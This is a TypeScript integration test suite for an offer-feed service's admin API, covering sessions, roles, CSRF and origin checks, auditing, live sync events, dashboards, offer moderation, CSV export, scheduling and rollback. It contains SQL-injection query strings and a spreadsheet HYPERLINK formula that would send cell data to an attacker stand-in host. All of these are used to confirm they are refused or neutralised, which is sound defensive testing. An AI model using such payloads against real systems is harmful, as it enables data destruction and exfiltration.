// The admin API against the real feed: connectors synced from their sandboxes by the real scheduler into a real
// DuckDB file (and ClickHouse when the run has one). Authentication and roles, CSRF and origin checks, actions and
// their audit trail, live events, dashboard numbers equal to the store's, drill-down, offers, rollback.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { all } from '../../engine/store/duckdb.ts';
import { projectRoot } from '../../engine/spec/registry.ts';
import { startAdminStack, ADMIN, VIEWER, type AdminClient, type AdminStack } from '../../test/support/admin-stack.ts';
import { waitFor } from '../../test/support/api-stack.ts';

const CONNECTORS = ['awin', 'cj'];

/** Reads the SSE stream until `until` returns true for the collected events (or the timeout). */
async function collectEvents(url: string, headers: Record<string, string>, until: (events: Array<{ event: string; data: any }>) => boolean, timeoutMs = 15_000) {
  const ac = new AbortController();
  const res = await fetch(`${url}/admin/api/events`, { headers, signal: ac.signal });
  assert.equal(res.status, 200);
  assert.match(res.headers.get('content-type') ?? '', /text\/event-stream/);
  const events: Array<{ event: string; data: any }> = [];
  const reader = res.body!.getReader();
  const timer = setTimeout(() => ac.abort(), timeoutMs);
  let buf = '';
  const done = (async () => {
    try {
      for (;;) {
        const { value, done } = await reader.read();
        if (done) return;
        buf += Buffer.from(value).toString('utf8');
        let i;
        while ((i = buf.indexOf('\n\n')) >= 0) {
          const block = buf.slice(0, i);
          buf = buf.slice(i + 2);
          const ev = /^event: (.*)$/m.exec(block)?.[1];
          const data = /^data: (.*)$/m.exec(block)?.[1];
          if (ev && data) events.push({ event: ev, data: JSON.parse(data) });
          if (until(events)) { ac.abort(); return; }
        }
      }
    } catch { /* aborted */ } finally { clearTimeout(timer); }
  })();
  return { events, done };
}

describe('admin API', () => {
  let s: AdminStack;
  let admin: AdminClient;
  let viewer: AdminClient;

  before(async () => {
    s = await startAdminStack({ connectors: CONNECTORS, config: { corsOrigins: ['https://shop.example'] } });
    admin = await s.login(ADMIN);
    viewer = await s.login(VIEWER);
  });
  after(async () => { await s?.close(); });

  test('every route needs a valid session or token; bad logins, foreign origins and cookie writes without the CSRF header are refused', async () => {
    for (const path of ['/admin/api/overview', '/admin/api/networks', '/admin/api/offers', '/admin/api/audit', '/admin/api/events']) {
      const r = await fetch(`${s.url}${path}`);
      assert.equal(r.status, 401, path);
    }
    assert.equal((await fetch(`${s.url}/admin/api/overview`, { headers: { authorization: 'Bearer ofk_forged' } })).status, 401);
    assert.equal((await fetch(`${s.url}/admin/api/overview`, { headers: { cookie: 'offerfeed_admin=ofs_forged' } })).status, 401);
    const bad = await fetch(`${s.url}/admin/api/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: ADMIN.name, password: 'wrong-password' }) });
    assert.equal(bad.status, 401);
    assert.equal(bad.headers.get('set-cookie'), null);

    const me = await admin.request('GET', '/admin/api/me');
    assert.deepEqual(me.body, { user: ADMIN.name, role: 'admin', via: 'session' });
    // The session cookie is HttpOnly and SameSite=Strict, scoped to /admin.
    const login = await fetch(`${s.url}/admin/api/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(ADMIN) });
    assert.match(login.headers.get('set-cookie') ?? '', /HttpOnly/i);
    assert.match(login.headers.get('set-cookie') ?? '', /SameSite=Strict/i);
    assert.match(login.headers.get('set-cookie') ?? '', /Path=\/admin/i);

    // A cookie write without the CSRF header (what a foreign form post would be) is refused.
    const csrf = await fetch(`${s.url}/admin/api/networks/awin/pause`, { method: 'POST', headers: { cookie: admin.cookie, 'content-type': 'application/json' }, body: '{}' });
    assert.equal(csrf.status, 403);
    // Another origin is refused even with valid credentials, and the admin API never answers with CORS headers,
    // even for an origin the public API allows.
    const foreign = await admin.request('GET', '/admin/api/overview', undefined, { origin: 'https://evil.example' });
    assert.equal(foreign.status, 403);
    const allowed = await admin.request('GET', '/admin/api/overview', undefined, { origin: 'https://shop.example' });
    assert.equal(allowed.status, 403);
    assert.equal(allowed.headers.get('access-control-allow-origin'), null);
    const same = await admin.request('GET', '/admin/api/overview', undefined, { origin: s.url });
    assert.equal(same.status, 200);
    const paused = await s.host.admin.connectorSettings('awin');
    assert.ok(!paused[0]?.paused, 'nothing was paused by the refused requests');
  });

  test('a viewer reads everything but every admin action is refused with 403 and audited as denied', async () => {
    assert.equal((await viewer.request('GET', '/admin/api/overview')).status, 200);
    assert.equal((await viewer.request('GET', '/admin/api/networks')).status, 200);
    const attempts: Array<[string, string, unknown?]> = [
      ['POST', '/admin/api/networks/awin/sync', {}], ['POST', '/admin/api/networks/awin/sync', { full: true }], ['POST', '/admin/api/networks/awin/pause', {}],
      ['POST', '/admin/api/networks/awin/resume'], ['PUT', '/admin/api/networks/awin/schedule', { interval: '1h' }],
      ['POST', '/admin/api/runs/some-run/rollback'], ['POST', '/admin/api/wizard/sample', { draft: { id: 'x', name: 'x', base_url: 'https://x.example', auth: { type: 'none' }, request: { path: '/' } } }],
    ];
    for (const [method, path, body] of attempts) {
      const r = await viewer.request(method, path, body);
      assert.equal(r.status, 403, `${method} ${path}`);
      assert.equal(r.body.error, 'forbidden');
    }
    const tokenTry = await fetch(`${s.url}/admin/api/networks/awin/sync`, { method: 'POST', headers: { authorization: `Bearer ${s.viewerToken}`, 'content-type': 'application/json' }, body: '{}' });
    assert.equal(tokenTry.status, 403);
    const denied = (await admin.request('GET', '/admin/api/audit?limit=100')).body as Array<{ actor: string; result: string; action: string }>;
    assert.ok(denied.filter((e) => e.actor === VIEWER.name && e.result === 'denied').length >= 6);
    assert.ok(denied.some((e) => e.actor === 'ci-viewer' && e.result === 'denied' && e.action === 'sync'));
    assert.equal(s.host.scheduler.connectorStatus('awin')?.job, undefined, 'no run was started');
  });

  test('sync now: the run is announced live (queued, started, progress, finished), and the dashboard shows the store\'s real numbers', async () => {
    const stream = collectEvents(s.url, { cookie: admin.cookie }, (ev) => ev.some((e) => e.event === 'sync.finished' && e.data.connector === 'awin'));
    const { events, done } = await stream;
    const r = await admin.request('POST', '/admin/api/networks/awin/sync', {});
    assert.equal(r.status, 202);
    assert.ok(r.body.jobId);
    const again = await admin.request('POST', '/admin/api/networks/awin/sync', {});
    assert.equal(again.status, 409, 'runs of one connector never overlap');
    await done;
    const topics = events.filter((e) => e.data.connector === 'awin').map((e) => e.event);
    for (const t of ['sync.queued', 'sync.started', 'sync.finished']) assert.ok(topics.includes(t), `${t} in ${topics.join(',')}`);
    assert.ok(topics.indexOf('sync.queued') < topics.indexOf('sync.started') && topics.indexOf('sync.started') < topics.indexOf('sync.finished'));
    const finished = events.find((e) => e.event === 'sync.finished')!.data;
    assert.equal(finished.status, 'succeeded', finished.error);
    assert.equal(finished.counts.quarantined, 2);
    assert.ok(events.some((e) => e.event === 'offers.committed'));

    const cj = await (await s.host.scheduler.runNow('cj', { actor: 'test' })).done;
    assert.equal(cj.status, 'succeeded', cj.error);

    const overview = (await admin.request('GET', '/admin/api/overview')).body;
    const rows = await all<{ network: string; status: string; n: number }>((s.host.store).conn, 'SELECT network, status, count(*)::INTEGER AS n FROM offers GROUP BY ALL');
    const live = rows.filter((x) => x.status === 'active').reduce((a, x) => a + Number(x.n), 0);
    assert.ok(live > 0);
    assert.equal(overview.totals.live, live);
    assert.equal(overview.totals.hidden + overview.totals.expired + overview.totals.inactive, rows.filter((x) => x.status !== 'active').reduce((a, x) => a + Number(x.n), 0));
    const awin = overview.networks.find((n: { network: string }) => n.network === 'awin');
    assert.equal(awin.live, rows.find((x) => x.network === 'awin' && x.status === 'active')!.n);
    assert.equal(awin.last_run.status, 'succeeded');
    assert.equal(overview.last_sync.network, 'cj');
    assert.equal(overview.errors_24h, 0, 'clean sandbox runs have no errors');

    const charts = (await admin.request('GET', '/admin/api/charts/offers?days=7')).body;
    assert.equal(charts.days.length, 7);
    assert.equal(charts.series.find((x: { network: string }) => x.network === 'awin').live.at(-1), awin.live);
    const durations = (await admin.request('GET', '/admin/api/charts/runs?days=1')).body.runs;
    assert.deepEqual(durations.map((x: { network: string }) => x.network).sort(), ['awin', 'cj']);

    const nets = (await admin.request('GET', '/admin/api/networks')).body;
    const a = nets.find((n: { network: string }) => n.network === 'awin');
    assert.equal(a.runs_24h, 1);
    assert.equal(a.error_rate_24h, 0);
    assert.ok(a.last_success_at);
    assert.ok(a.staleness_s >= 0 && a.staleness_s < 120);
    assert.equal(a.offers.live, awin.live);
  });

  test('the feed process wires enrichment and the optimizer: a committed run is enriched, served offers count as impressions', async () => {
    const services = s.host.services!;
    await services.runner.idle();
    assert.ok(services.runner.status().finished >= 2, 'both committed runs were enriched');
    const [row] = await all<{ id: string }>(s.host.store.conn, `SELECT id FROM offers WHERE network = 'awin' AND status = 'active' ORDER BY id LIMIT 1`);
    const view = (await services.reader.get([row.id])).get(row.id);
    assert.ok(view && view.languages.length > 0 && view.copy.summary, 'the offer has languages and copy');
    const enrichment = (await admin.request('GET', '/admin/api/enrichment')).body;
    assert.ok(enrichment.recent.length >= 2);
    assert.ok(enrichment.recent.every((j: { status: string }) => ['succeeded', 'partial'].includes(j.status)));

    const served = await fetch(`${s.url}/api/offers/latest?network=awin&limit=5`, { headers: { 'x-offerfeed-consent': 'affiliate' } });
    const items = ((await served.json()) as { items: Array<{ id: string }> }).items;
    assert.ok(items.length > 0);
    await services.optimizer.flushImpressions();
    const stats = await services.optimizer.store.stats(items[0].id);
    assert.ok((stats?.impressions ?? 0) >= 1, 'the served offer has an impression');
  });

  test('drill-down: a run, its API-call log (no secrets) and its quarantined records with reasons', async () => {
    const detail = (await admin.request('GET', '/admin/api/networks/awin')).body;
    const run = detail.runs[0];
    assert.equal(run.status, 'succeeded');
    const one = (await admin.request('GET', `/admin/api/runs/${run.id}`)).body;
    assert.equal(one.can_rollback, true);
    const calls = (await admin.request('GET', `/admin/api/runs/${run.id}/calls`)).body;
    assert.ok(calls.total >= 1);
    assert.ok(calls.items.every((c: { method: string; url: string; duration_ms: number }) => /^(GET|POST)$/.test(c.method) && c.url.startsWith('http') && c.duration_ms >= 0));
    const settings = JSON.parse(await readFile(join(projectRoot, 'connectors/awin/sandbox/config.json'), 'utf8')) as Record<string, unknown>;
    for (const k of ['api_token', 'datafeed_key']) assert.ok(!JSON.stringify(calls).includes(String(settings[k])), `the API-call log carries ${k}`);
    const q = (await admin.request('GET', `/admin/api/runs/${run.id}/quarantine`)).body;
    assert.equal(q.total, 2);
    assert.ok(q.items.every((i: { reasons: Array<{ field: string }> }) => i.reasons.length > 0 && i.reasons.every((x) => typeof x.field === 'string')));
    assert.equal((await admin.request('GET', '/admin/api/runs/no-such-run')).status, 404);
    // A run that succeeded kept no broken response (engine/sync/error-payloads.test.ts covers a failed one).
    assert.deepEqual((await admin.request('GET', `/admin/api/runs/${run.id}/payloads`)).body, { items: [] });
  });

  test('offers: search, filters, fixed sorts, detail with history; hide and pin are applied, visible to the public API and audited', async () => {
    const page = (await admin.request('GET', '/admin/api/offers?network=awin&limit=5&sort=title')).body;
    assert.ok(page.total > 5);
    assert.equal(page.items.length, 5);
    const titles = page.items.map((o: { title: string }) => o.title);
    assert.deepEqual(titles, [...titles].sort((x: string, y: string) => (x < y ? -1 : x > y ? 1 : 0)));
    assert.equal((await admin.request('GET', '/admin/api/offers?sort=title;DROP TABLE offers')).status, 400);
    assert.equal((await admin.request('GET', "/admin/api/offers?status=active' OR 1=1 --")).status, 400);
    const word = page.items[0].title.split(/\s+/)[0];
    const found = (await admin.request('GET', `/admin/api/offers?q=${encodeURIComponent(word.toUpperCase())}`)).body;
    assert.ok(found.items.some((o: { key: string }) => o.key === page.items[0].key), 'search is case-insensitive');
    assert.equal((await admin.request('GET', `/admin/api/offers?q=${encodeURIComponent("%' OR '1'='1")}`)).body.total, 0);

    const key = page.items[0].key;
    const detail = (await admin.request('GET', `/admin/api/offers/${key}`)).body;
    assert.equal(detail.offer.network, 'awin');
    assert.equal(detail.history[0].op, 'insert');

    const publicStatus = async () => (await fetch(`${s.url}/api/offers/${key}`, { headers: { 'x-offerfeed-consent': 'affiliate' } })).status;
    await waitFor(async () => (await publicStatus()) === 200, 5000, 'the offer in the public API');
    const hidden = await admin.request('POST', `/admin/api/offers/${key}/hide`, { reason: 'broken landing page' });
    assert.equal(hidden.status, 200, JSON.stringify(hidden.body));
    assert.equal(hidden.body.status, 'hidden');
    await waitFor(async () => (await publicStatus()) === 404, 5000, 'the public API to drop the hidden offer');
    assert.equal((await admin.request('GET', '/admin/api/offers?status=hidden')).body.items[0].key, key);
    const shown = await admin.request('POST', `/admin/api/offers/${key}/unhide`, {});
    assert.equal(shown.body.status, 'active');
    const pinned = await admin.request('POST', `/admin/api/offers/${key}/pin`, {});
    assert.equal(pinned.body.pinned, true);
    const decisions = (await admin.request('GET', `/admin/api/offers/${key}`)).body.decisions.map((d: { action: string }) => d.action);
    for (const a of ['hide', 'unhide', 'pin']) assert.ok(decisions.includes(a), `${a} in ${decisions}`);
    const audit = (await admin.request('GET', `/admin/api/audit?target=${key}`)).body.map((e: { action: string; actor: string }) => `${e.actor}:${e.action}`);
    assert.deepEqual(audit.sort(), [`${ADMIN.name}:offer.hide`, `${ADMIN.name}:offer.hide`, `${ADMIN.name}:offer.pin`]);
  });

  test('the CSV export carries every filtered offer with formula cells neutralized', async () => {
    // A third party's title that a spreadsheet would run as a formula.
    await s.host.store.conn.run(`UPDATE offers SET title = '=HYPERLINK("https://evil.example/?"&A1,"x")' WHERE network = 'cj' AND external_id = (SELECT min(external_id) FROM offers WHERE network = 'cj')`);
    const r = await admin.request('GET', '/admin/api/offers.csv?network=cj');
    assert.equal(r.status, 200);
    assert.match(r.headers.get('content-type') ?? '', /text\/csv/);
    const lines = String(r.body).trim().split('\r\n');
    const total = (await admin.request('GET', '/admin/api/offers?network=cj&limit=1')).body.total;
    assert.equal(lines.length, total + 1, 'a header and one line per offer');
    assert.ok(lines.some((l) => l.includes(`"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`)), 'the formula is quoted and prefixed');
    assert.ok(!lines.some((l) => /(^|,)"=/.test(l)), 'no cell starts with =');
  });

  test('pause, resume and schedule override change the scheduler and are audited; an invalid schedule is a 400', async () => {
    const p = await admin.request('POST', '/admin/api/networks/cj/pause', { reason: 'maintenance' });
    assert.equal(p.status, 200);
    assert.equal(p.body.state, 'paused');
    assert.equal(p.body.paused_reason, 'maintenance');
    assert.equal(p.body.next_run_at, null);
    const r = await admin.request('POST', '/admin/api/networks/cj/resume');
    assert.equal(r.body.paused, false);
    const bad = await admin.request('PUT', '/admin/api/networks/cj/schedule', { cron: 'every tuesday' });
    assert.equal(bad.status, 400);
    const ok = await admin.request('PUT', '/admin/api/networks/cj/schedule', { interval: '6h' });
    assert.equal(ok.status, 200, JSON.stringify(ok.body));
    assert.equal(ok.body.schedule.source, 'override');
    const back = await admin.request('PUT', '/admin/api/networks/cj/schedule', {});
    assert.notEqual(back.body.schedule?.source, 'override');
    const audit = (await admin.request('GET', '/admin/api/audit?target=cj')).body.map((e: { action: string; result: string }) => `${e.action}:${e.result}`);
    for (const a of ['pause:ok', 'resume:ok', 'schedule.change:error', 'schedule.change:ok']) assert.ok(audit.includes(a), `${a} in ${audit}`);
    assert.equal((await admin.request('POST', '/admin/api/networks/no-such/pause', {})).status, 404);
  });

  test('rollback: only the latest committed run, restoring the offers it changed', async () => {
    const second = await admin.request('POST', '/admin/api/networks/awin/sync', { full: true });
    assert.equal(second.status, 202);
    await waitFor(() => !s.host.scheduler.connectorStatus('awin')?.job, 20_000, 'the second awin run');
    const runs = (await admin.request('GET', '/admin/api/networks/awin')).body.runs;
    const [latest, older] = runs;
    const refused = await admin.request('POST', `/admin/api/runs/${older.id}/rollback`);
    assert.equal(refused.status, 409);
    const rb = await admin.request('POST', `/admin/api/runs/${latest.id}/rollback`);
    assert.equal(rb.status, 200, JSON.stringify(rb.body));
    assert.equal(rb.body.runId, `rollback-${latest.id}`);
    const after = (await admin.request('GET', `/admin/api/runs/${latest.id}`)).body;
    assert.equal(after.status, 'rolled_back');
    assert.equal(after.can_rollback, false);
  });

  test('`offerfeed admin run` starts a run in the server through the admin API and follows it to its end', async () => {
    // Asynchronously: the server under test lives in this process.
    const cli = (token: string) => new Promise<{ status: number; stdout: string; stderr: string }>((resolve) => {
      execFile(process.execPath, [join(projectRoot, 'bin/offerfeed.js'), 'admin', 'run', 'cj', '--url', s.url], { env: { ...process.env, OFFERFEED_ADMIN_TOKEN: token }, timeout: 60_000 },
        (err, stdout, stderr) => resolve({ status: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr }));
    });
    const r = await cli(s.adminToken);
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /cj: run queued \(job [0-9a-f-]+\)/);
    assert.match(r.stdout, /cj: succeeded/);
    const noToken = await cli(s.viewerToken);
    assert.notEqual(noToken.status, 0);
    assert.match(noToken.stderr, /403/);
  });

  test('logout ends the session: the cookie no longer works and the live stream is refused', async () => {
    const c = await s.login(ADMIN);
    assert.equal((await c.request('GET', '/admin/api/me')).status, 200);
    assert.equal((await c.request('POST', '/admin/api/logout')).status, 204);
    assert.equal((await c.request('GET', '/admin/api/me')).status, 401);
    assert.equal((await fetch(`${s.url}/admin/api/events`, { headers: { cookie: c.cookie } })).status, 401);
  });
});
